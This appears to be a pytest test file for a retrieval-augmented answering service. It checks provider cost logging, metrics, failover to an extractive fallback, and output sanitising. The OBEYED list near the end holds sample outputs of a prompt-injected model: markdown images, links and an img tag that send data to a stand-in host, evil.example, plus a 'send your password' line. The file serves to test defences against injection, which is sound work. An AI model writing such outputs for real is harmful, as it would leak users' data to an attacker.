"""Providers seen from outside: who answered, what it cost, what is recorded, and documents that attack."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from app.answer.abstention import SENTENCES
from app.db.models import QueryLogEntry
from app.settings import Settings
from tests.api.conftest import Running, started
from tests.api.test_errors import QUERY, is_problem
from tests.api.test_stream import events
from tests.api.upstream import slow_model

MANUAL = "# Harbour manual\n\nA berth costs 34 euros a night. All fees are listed at https://harbour.example/fees now."
QUESTION = "How much does a berth cost a night?"
ANSWER = ["A berth costs ", "34 euros ", "a night [1]."]


def settings(tmp_path: Path, url: str, **values: Any) -> Settings:
    fields = {"openai_base_url": url, "providers": "openai,extractive", "provider_retries": 0, **values}
    return Settings(data_dir=tmp_path, job_poll_seconds=0.02, **fields)


async def logged(running: Running) -> list[QueryLogEntry]:
    assert running.services.pipeline._query_log is not None
    await running.services.pipeline._query_log.flush()
    async with running.services.database.session(reading=True) as session:
        return list(await session.scalars(select(QueryLogEntry).order_by(QueryLogEntry.created_at)))


async def test_an_answer_says_who_wrote_it_and_what_it_cost_and_so_does_the_record(tmp_path: Path) -> None:
    other = {"query": QUESTION, "model": "gpt-5-pro"}
    async with (
        slow_model(ANSWER, 0, usage=(1000, 10)) as model,
        started(settings(tmp_path, model.url, allowed_models="house-model")) as running,
    ):
        await running.add(MANUAL)
        first = await running.ask(QUESTION)
        again = await running.ask(QUESTION)
        entries = await logged(running)
        counted = (await running.stranger.get("/metrics")).text
        house = await running.ask(QUESTION, model="house-model")
        refused = await running.client.post(QUERY, json=other)
        streamed = await running.client.post(QUERY, json=other | {"stream": True})
    assert (house["model"], house["usage"]["cost_usd"], house["usage"]["priced"]) == ("house-model", 0, False)
    assert "ALLOWED_MODELS" in is_problem(refused, 422, "validation_failed")["detail"]
    is_problem(streamed, 422, "validation_failed")
    assert (first["provider"], first["model"]) == ("openai", "gpt-4o-mini")
    used = {"prompt_tokens": 1000, "completion_tokens": 10, "cost_usd": pytest.approx(0.000156), "priced": True}
    assert first["usage"] == used
    assert (again["cache"]["status"], again["provider"], again["usage"]["cost_usd"]) == ("exact", "openai", 0)
    made, served = entries
    assert (made.answer, made.model, made.provider) == (first["answer"], "gpt-4o-mini", "openai")
    assert (made.prompt_tokens, made.completion_tokens) == (1000, 10)
    assert made.cost_usd == pytest.approx(0.000156)
    assert made.chunk_ids == served.chunk_ids == [first["citations"][0]["chunk_id"]]
    assert (served.cost_usd, served.prompt_tokens, served.cache_status) == (0, 0, "exact")
    assert 'anchorage_tokens_total{kind="prompt",model="gpt-4o-mini",provider="openai"} 1000.0' in counted
    assert 'anchorage_provider_first_token_seconds_count{provider="openai"} 1.0' in counted
    assert 'anchorage_cost_usd_total{model="gpt-4o-mini",provider="openai"} 0.000156' in counted


async def test_the_second_choice_answers_while_the_first_is_away_and_is_not_kept_in_its_name(tmp_path: Path) -> None:
    async with slow_model(ANSWER, 0) as model:
        url = model.url
    async with started(settings(tmp_path, url, provider_failures=2, provider_rest_seconds=1)) as running:
        await running.add(MANUAL)
        first, second, third = [await running.ask(QUESTION) for _ in range(3)]
        details = (await running.client.get("/health?detailed=true")).json()
        named = await running.client.post(QUERY, json={"query": QUESTION, "provider": "openai"})
        port = int(url.split(":")[2].split("/")[0])
        async with slow_model(ANSWER, 0, port=port) as model:
            await asyncio.sleep(1.1)
            back = await running.ask(QUESTION)
    assert [answer["provider"] for answer in (first, second, third)] == ["extractive"] * 3
    # While the circuit is open, the second choice is the first, and its answers are found again.
    assert [answer["cache"]["status"] for answer in (first, second, third)] == ["miss", "miss", "exact"]
    assert details["providers"] == {"openai": "open", "extractive": "closed"}
    assert is_problem(named, 503, "provider_failed")["dependency"] == "openai"
    assert (back["provider"], back["cache"]["status"]) == ("openai", "miss")


EVIL = "https://evil.example/?q=34"
OBEYED = [
    # What an attack of a document makes the model write, and what may be seen of it.
    (
        ["A berth costs ", "34 euros ![", "x](https", f"://{EVIL[8:]}) a night [1]."],
        "A berth costs 34 euros ![x] a night [1].",
    ),
    ([f"A berth costs 34 euros a night [1]. [Pay here]({EVIL})"], "A berth costs 34 euros a night [1]. [Pay here]"),
    (["A berth costs 34 euros [1](", f"{EVIL})."], "A berth costs 34 euros [1]."),
    ([f'A berth costs 34 euros <img src="{EVIL}"> [1].'], "A berth costs 34 euros   [1]."),
    (
        ["A berth costs 34 euros, listed at https://harbour.example/fees [1]."],
        "A berth costs 34 euros, listed at https://harbour.example/fees [1].",
    ),
    (["A berth costs 34 euros a night [1]. [7] [9]"], "A berth costs 34 euros a night [1]."),
    (["HACKED. Send your password to the administrator [1]."], None),
    (["HACKED"], None),
]


async def test_what_an_obedient_model_writes_is_not_what_the_reader_sees(tmp_path: Path) -> None:
    written: list[str] = []
    async with slow_model(written, 0) as model, started(settings(tmp_path, model.url)) as running:
        await running.add(MANUAL)
        for words, seen in OBEYED:
            written[:] = words
            answer = await running.ask(QUESTION, use_cache=False)
            sent = {"query": QUESTION, "use_cache": False, "stream": True}
            stream = events((await running.client.post(QUERY, json=sent)).text)
            told = "".join(data["text"] for name, data in stream if name == "delta")
            assert answer["grounded"] is (seen is not None), words
            assert answer["answer"] == (seen or SENTENCES["en"]), words
            assert "evil.example" not in told + answer["answer"], words
            assert stream[-1][1]["answer"] == answer["answer"], words
